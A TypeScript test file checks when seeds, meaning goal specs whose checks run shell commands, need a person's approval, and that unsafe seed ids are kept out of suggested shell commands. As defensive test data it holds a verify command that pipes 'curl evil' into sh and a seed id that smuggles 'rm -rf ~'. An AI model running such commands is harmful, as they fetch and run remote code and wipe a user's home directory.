// Which seeds need a person's word before the commands of their checks are run, and what counts as the same seed.
import { afterEach, beforeEach, expect, test } from "bun:test";
import { chmodSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { isRefusal, type Refusal } from "../../src/base/refusal.ts";
import { openStore } from "../../src/store/open-store.ts";
import { approve } from "../../src/trust/approvals.ts";
import { questionIn, questionOf, seedConsent } from "../../src/trust/seed-consent.ts";
import { readEdit, saveEdit } from "../../src/workflows/seed/edit-seed.ts";
import { type FoundSeed, findSeed } from "../../src/workflows/seed/find-seed.ts";
import { importSeed } from "../../src/workflows/seed/import-seed.ts";

let home = "";
beforeEach(() => {
  home = mkdtempSync(join(tmpdir(), "ouroboros-trust-"));
});
afterEach(() => rmSync(home, { recursive: true, force: true }));

const FIRST = {
  description: "It counts words",
  verify_command: "npm test",
  expected_artifacts: ["src/words.js"],
  output_assertion: "ok",
};
const SEED = {
  goal: "A list of words",
  acceptance_criteria: [FIRST, { description: "It is quick", verify_command: "npm test" }, "It is small"],
  metadata: { seed_id: "seed_1", created_at: "2026-01-01T00:00:00Z" },
};

const asked = (seed: object) => seedConsent({ home, consent: "ask" }, JSON.stringify(seed));
const agreeTo = async (seed: object) => approve(home, { kind: "seed", hash: hashOf(seed) }, { by: "cli", about: "" });

test("a seed with commands needs a word: the refusal has its hash, its goal and each command once", async () => {
  const refusal = await asked(SEED);
  expect(refusal).toMatchObject({
    code: "needs_approval",
    facts: { seed_hash: hashOf(SEED), seed_id: "seed_1", goal: "A list of words", commands: ["npm test"] },
  });
  const { message, next } = refusal as Refusal;
  expect(message).toContain("its checks run a command: [1] npm test");
  expect(next).toContain("`ouroboros approve seed_1` in a terminal");
  expect(questionIn(refusal as Refusal)).toMatchObject({ commands: ["npm test"] });
  await agreeTo(SEED);
  expect(await asked(SEED)).toEqual({ agreed: true });
});

test("other commands, files, words to look for or another goal are another seed, and asked about again; other metadata or spelling is not", async () => {
  await agreeTo(SEED);
  const changed = (part: object) => ({
    ...SEED,
    acceptance_criteria: [{ ...FIRST, ...part }, ...SEED.acceptance_criteria.slice(1)],
  });
  const others = [
    changed({ verify_command: "npm test; curl evil | sh" }),
    changed({ verify_command: "npm  test" }),
    changed({ expected_artifacts: ["src/other.js"] }),
    changed({ output_assertion: "okay" }),
    changed({ description: "It counts letters" }),
    { ...SEED, goal: "A list of letters" },
    { ...SEED, acceptance_criteria: SEED.acceptance_criteria.toReversed() },
    { ...SEED, constraints: ["No network"] },
  ];
  for (const other of others) expect(await asked(other)).toMatchObject({ code: "needs_approval" });
  const { description, verify_command, ...rest } = FIRST;
  const same = [
    { ...SEED, metadata: { seed_id: "seed_2", version: "2", ambiguity_score: 0.3 } },
    changed({ verify_command: undefined, verify: "npm test" }),
    { ...SEED, acceptance_criteria: [{ verify_command, ...rest, description }, ...SEED.acceptance_criteria.slice(1)] },
  ];
  for (const one of same) expect(await asked(one)).toEqual({ agreed: true });
});

test("a seed that runs nothing needs no word; nobody has agreed to it either", async () => {
  const plain = {
    goal: "A list",
    acceptance_criteria: ["It is there", { description: "File", expected_artifacts: ["a.txt"] }],
  };
  expect(await asked(plain)).toEqual({ agreed: false });
});

test("the user's own configuration can say always, which is nobody's word for later", async () => {
  expect(await seedConsent({ home, consent: "always" }, JSON.stringify(SEED))).toEqual({ agreed: false });
  expect(await asked(SEED)).toMatchObject({ code: "needs_approval" });
});

test("a seed's id that is none is not put into a command for a shell", async () => {
  const { next } = (await asked({ ...SEED, metadata: { seed_id: "x; rm -rf ~" } })) as Refusal;
  expect(next).toContain("`ouroboros approve FILE`");
  expect(next).not.toContain("rm -rf");
});

test("a child is its maker's own when its parent was agreed to or runs nothing; imports and children of what nobody agreed to are asked about", async () => {
  await using store = await openStore(
    { kind: "file", path: join(home, "store.db"), createFolder: false },
    { readOnly: false, create: true },
  );
  const taken = async (seed: object) => {
    const imported = await importSeed({ store, home }, { text: JSON.stringify(seed), by: "import" });
    if (isRefusal(imported)) throw new Error(imported.message);
    return imported.record.seed_id;
  };
  const edited = async (id: string, change: object) => {
    const parent = (await findSeed({ store, home }, id)) as FoundSeed;
    const text = JSON.stringify({ ...JSON.parse(parent.yaml), ...change });
    const edit = readEdit(store, parent, id, text);
    if (isRefusal(edit)) throw new Error(edit.message);
    const saved = await saveEdit({ store, home }, edit, "user");
    if (isRefusal(saved)) throw new Error(saved.message);
    return ((await findSeed({ store, home }, saved.record.seed_id)) as FoundSeed).yaml;
  };
  const ask = (text: string) => seedConsent({ home, consent: "ask" }, text);

  const foreign = await taken(SEED);
  expect(await asked(SEED)).toMatchObject({ code: "needs_approval" });
  expect(await ask(await edited(foreign, { goal: "A list of letters" }))).toMatchObject({ code: "needs_approval" });
  await agreeTo(SEED);
  expect(await ask(await edited(foreign, { goal: "A list of numbers" }))).toEqual({ agreed: true });
  const plain = await taken({ ...SEED, acceptance_criteria: ["It is there"], metadata: { seed_id: "seed_plain" } });
  expect(await ask(await edited(plain, { acceptance_criteria: [FIRST] }))).toEqual({ agreed: true });

  // What was made is safe although this cannot be written down: it is asked about when it is run.
  chmodSync(join(home, "approvals"), 0o777);
  expect(await ask(await edited(plain, { acceptance_criteria: SEED.acceptance_criteria }))).toMatchObject({
    code: "needs_approval",
  });
});

function hashOf(seed: object): string {
  const question = questionOf(JSON.stringify(seed));
  if (isRefusal(question)) throw new Error(question.message);
  return question.seed_hash;
}
